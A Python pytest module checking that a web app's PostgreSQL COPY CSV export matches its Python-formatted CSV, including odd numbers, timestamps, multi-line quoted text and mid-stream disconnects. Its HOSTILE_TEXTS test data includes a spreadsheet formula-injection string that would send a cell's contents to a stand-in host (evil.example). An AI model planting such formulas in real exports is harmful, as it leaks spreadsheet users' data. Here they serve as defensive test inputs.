"""The CSV export streamed by PostgreSQL's COPY: byte-identical to the rows formatted in Python, and a
client leaving mid-COPY. Collected only when the tests run on PostgreSQL (conftest.collect_ignore)."""

from __future__ import annotations

import asyncio
import gc
from typing import TYPE_CHECKING, Any

import httpx
import pytest

from test_export import parse_csv

if TYPE_CHECKING:
    from apps import Instance
    from conftest import MakeToken


HOSTILE_TEXTS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "@SUM(1+1)",
    "-x",
    "'quoted",
    "\ttab first",
    '保育定員を拡充、"待機児童"ゼロ,\n次期も継続',
    "改行\r\nCRLF と \\ バックスラッシュ",
    "\\.",
    "a,b",
    '"',
    "末尾の改行\n",
]


def single_line(text: str) -> str:
    """The hostile text as a name or unit may hold it: no tab or line break (lib.text)."""
    return " ".join(text.split())


NUMBERS_OF_NOTE = [
    0.1,
    1 / 3,
    -5,
    1234567890123456.7,
    1e15,
    1.5e15,
    1e16,
    2.5e16,
    1.5e-05,
    0.0001,
    1e-300,
    1e300,
    49.32,  # hundredths (sql_numeric's integer path) between each baseline and target from here on
    0.29,
    9999999999999.99,
    0.25,
    12.345,  # thousandths: the text path again
    99.99,
]


@pytest.mark.parametrize("kind", ["values", "reports"])
async def test_copy_csv_is_byte_identical_to_the_python_csv(
    admin: httpx.AsyncClient, viewer: httpx.AsyncClient, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    """PostgreSQL's COPY writes the same bytes as the rows formatted in Python, for any filter and cursor."""
    from wlbtrack.domain.progress import export as export_module

    guidelines = ["1.1.1", "1.3.1", "2.2.1"]
    for number, value in enumerate(NUMBERS_OF_NOTE):
        text = HOSTILE_TEXTS[number % len(HOSTILE_TEXTS)]
        body = {
            "name": f"{single_line(text)}（指標{number}）",
            "unit": single_line(HOSTILE_TEXTS[-number % len(HOSTILE_TEXTS)])[:50],
            "baseline": [0, 100, -1e15, 1 / 7][number % 4],
            "target": [100, 0, 1e15, 2 / 7][number % 4],
            "department": "children" if number % 2 else "health-center",
        }
        guideline = guidelines[number % 3] if number % 2 else "1.1.1"
        response = await admin.post(f"/api/v1/guidelines/{guideline}/indicators", json=body)
        assert response.status_code == 201, response.text
        identifier = response.json()["id"]
        for period in ("2025-Q1", "2025-Q2"):
            note = None if number % 3 == 0 else text
            response = await admin.post(
                f"/api/v1/indicators/{identifier}/values",
                json={"period": period, "value": value, "note": note},
            )
            assert response.status_code == 201, response.text
    for number, text in enumerate(HOSTILE_TEXTS):
        body = {
            "period": f"2025-Q{number % 4 + 1}",
            "status": "on_track",
            "summary": text,
            "department": "health-center" if number < 4 and number % 2 else "children",
        }
        response = await admin.post(f"/api/v1/guidelines/{guidelines[number // 4]}/reports", json=body)
        assert response.status_code == 201, response.text

    cursor = (await viewer.get(f"/api/v1/export/{kind}", params={"limit": 3})).json()["next"]
    queries: list[dict[str, Any]] = [
        {},
        {"department": "children"},
        {"department": "health-center"},  # the same shape, so the same compiled COPY, other arguments
        {"from": "2025-Q2", "campaign": "1"},
        {"from": "2025-Q1", "campaign": "1"},
        {"cursor": cursor},
        {"cursor": cursor, "to": "2025-Q1", "department": "health-center"},
        {"to": "2024-Q4"},
    ]
    for params in queries:
        url, query = f"/api/v1/export/{kind}", {**params, "format": "csv"}
        monkeypatch.setattr(export_module, "COPY_DIALECTS", ("postgresql",))
        copied = await viewer.get(url, params=query)
        monkeypatch.setattr(export_module, "COPY_DIALECTS", ())
        formatted = await viewer.get(url, params=query)
        assert copied.status_code == formatted.status_code == 200, copied.text
        assert copied.content == formatted.content, params
        assert copied.headers["content-type"] == formatted.headers["content-type"]
    assert parse_csv(formatted)[1] == []  # the last query: nothing before 2025
    everything = await viewer.get(f"/api/v1/export/{kind}", params={"format": "csv"})
    assert len(parse_csv(everything)[1]) == (
        2 * len(NUMBERS_OF_NOTE) if kind == "values" else len(HOSTILE_TEXTS)
    )


# Values whose shortest spelling has up to 15 characters (COPY reads them as NUMERIC from that text) and
# more (COPY falls back to value::numeric, which keeps 15 significant digits): 1.234567890123456 has 16
# digits in 17 characters, and as NUMERIC from its text would give another attainment than Python's path.
SPELLINGS_OF_NOTE = [
    1.234567890123456,
    0.1234567890123,
    -0.12345678901,
    0.1 + 0.2,
    1 / 3,
    2.5,
    7.0,
    1.5e-05,
    1.2345678901e-07,
    123456789012.345,
    99999.99999,
]
# Microseconds PostgreSQL prints without their trailing zeros (or not at all) and msgspec always as six
MICROSECONDS_OF_NOTE = [0, 1, 10, 100000, 120000, 123450, 999999, 500000, 7, 40, 654321]


async def test_copy_csv_is_byte_identical_for_tricky_numbers_and_times(
    instance: Instance,
    admin: httpx.AsyncClient,
    viewer: httpx.AsyncClient,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Attainments of values with short and long spellings, and timestamps with every shape of
    microseconds: COPY writes the bytes Python writes."""
    from wlbtrack.domain.progress import export as export_module

    body = {"name": "指標", "unit": "件", "baseline": -3, "target": 10, "department": "children"}
    response = await admin.post("/api/v1/guidelines/1.1.1/indicators", json=body)
    assert response.status_code == 201, response.text
    identifier = response.json()["id"]
    for number, value in enumerate(SPELLINGS_OF_NOTE):
        period = f"{2020 + number // 4}-Q{number % 4 + 1}"
        response = await admin.post(
            f"/api/v1/indicators/{identifier}/values", json={"period": period, "value": value}
        )
        assert response.status_code == 201, response.text
    async with instance.services.database.engine.begin() as connection:  # times no clock would give
        for number, microseconds in enumerate(MICROSECONDS_OF_NOTE):
            await connection.exec_driver_sql(
                "UPDATE indicator_value SET updated_at = timestamptz '2025-06-30 23:59:58+09'"
                f" + interval '{number} hour {microseconds} microseconds'"
                f" WHERE indicator_id = {identifier} AND period = '{2020 + number // 4}-Q{number % 4 + 1}'"
            )
    url, query = "/api/v1/export/values", {"format": "csv"}
    copied = await viewer.get(url, params=query)
    monkeypatch.setattr(export_module, "COPY_DIALECTS", ())
    formatted = await viewer.get(url, params=query)
    assert copied.status_code == formatted.status_code == 200, copied.text
    assert copied.content == formatted.content
    rows = parse_csv(formatted)[1]
    assert len(rows) == len(SPELLINGS_OF_NOTE)
    assert {row["updated_at"][19:] for row in rows} == {
        "Z",
        ".000001Z",
        ".000010Z",
        ".100000Z",
        ".120000Z",
        ".123450Z",
        ".999999Z",
        ".500000Z",
        ".000007Z",
        ".000040Z",
        ".654321Z",
    }


async def test_copy_csv_is_byte_identical_when_quoted_text_spans_chunks(
    admin: httpx.AsyncClient, viewer: httpx.AsyncClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Nearly half a megabyte of multi-line quoted notes, many COPY chunks: the line ends inside quoted
    text stay LF while the row ends become CRLF, as Python writes them."""
    from wlbtrack.domain.progress import export as export_module

    ids = []
    for number in range(250):
        body = {"name": f"指標{number}", "unit": "件", "baseline": 0, "target": 100, "department": "children"}
        response = await admin.post("/api/v1/guidelines/1.1.1/indicators", json=body)
        assert response.status_code == 201, response.text
        ids.append(response.json()["id"])
    line = '保育定員を拡充、"待機児童"ゼロ,\n'
    for period in ("2025-Q1", "2025-Q2"):
        values = [
            {"indicator": i, "value": n / 3, "note": f"{n}\n" + line * (40 + n % 5)}
            for n, i in enumerate(ids)
        ]
        response = await admin.post(
            "/api/v1/submissions", json={"period": period, "department": "children", "values": values}
        )
        assert response.status_code == 201, response.text
    url, query = "/api/v1/export/values", {"format": "csv"}
    copied = await viewer.get(url, params=query)
    monkeypatch.setattr(export_module, "COPY_DIALECTS", ())
    formatted = await viewer.get(url, params=query)
    assert len(copied.content) > 400_000
    assert copied.content == formatted.content


async def test_a_client_leaving_mid_copy_frees_the_export(
    instance: Instance,
    admin: httpx.AsyncClient,
    viewer: httpx.AsyncClient,
    make_token: MakeToken,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A client that stops reading and leaves mid-COPY ends the request; the connection goes back."""
    from wlbtrack.domain.progress import export as export_module

    monkeypatch.setattr(export_module, "COPY_CHUNKS", 1)
    ids = []
    for number in range(40):
        body = {"name": f"指標{number}", "unit": "件", "baseline": 0, "target": 100, "department": "children"}
        response = await admin.post("/api/v1/guidelines/1.1.1/indicators", json=body)
        ids.append(response.json()["id"])
    for period in ("2025-Q1", "2025-Q2", "2025-Q3", "2025-Q4"):
        values = [{"indicator": i, "value": 1, "note": "x" * 1000} for i in ids]
        body = {"period": period, "department": "children", "values": values}
        assert (await admin.post("/api/v1/submissions", json=body)).status_code == 201
    token = await make_token("viewer")
    scope = {
        "type": "http",
        "asgi": {"version": "3.0", "spec_version": "2.3"},
        "http_version": "1.1",
        "method": "GET",
        "scheme": "http",
        "path": "/api/v1/export/values",
        "raw_path": b"/api/v1/export/values",
        "query_string": b"format=csv",
        "root_path": "",
        "headers": [(b"host", b"testserver"), (b"authorization", f"Bearer {token}".encode())],
        "client": ("127.0.0.1", 1234),
        "server": ("testserver", 80),
        "state": {},
    }
    first_body = asyncio.Event()
    requested = False
    sent: list[dict[str, Any]] = []

    async def receive() -> dict[str, Any]:
        nonlocal requested
        if not requested:
            requested = True
            return {"type": "http.request", "body": b"", "more_body": False}
        await first_body.wait()
        return {"type": "http.disconnect"}

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)
        if message["type"] == "http.response.body" and message.get("body"):
            first_body.set()
            await asyncio.Event().wait()  # a client that stopped reading: the COPY fills its queue

    try:
        await asyncio.wait_for(instance.app(scope, receive, send), 30)  # type: ignore[arg-type]
    except TimeoutError:
        pytest.fail("the request never ended after its client left")
    except Exception:  # how Litestar reports the disconnect is not what is tested here
        pass
    assert sent[0]["status"] == 200
    assert sum(len(m.get("body", b"")) for m in sent) < 40 * 4 * 1000  # it stopped early
    pool = instance.services.database.engine.pool
    for _ in range(200):  # the abandoned body is closed by the event loop's async generator finaliser
        gc.collect()
        await asyncio.sleep(0.05)
        if pool.checkedout() == 0:  # type: ignore[attr-defined]
            break
    assert pool.checkedout() == 0, "the export still holds its database connection"  # type: ignore[attr-defined]
    for _ in range(3):  # the connection went back to the pool in a usable state
        _, rows = parse_csv(await viewer.get("/api/v1/export/values", params={"format": "csv"}))
        assert len(rows) == 160
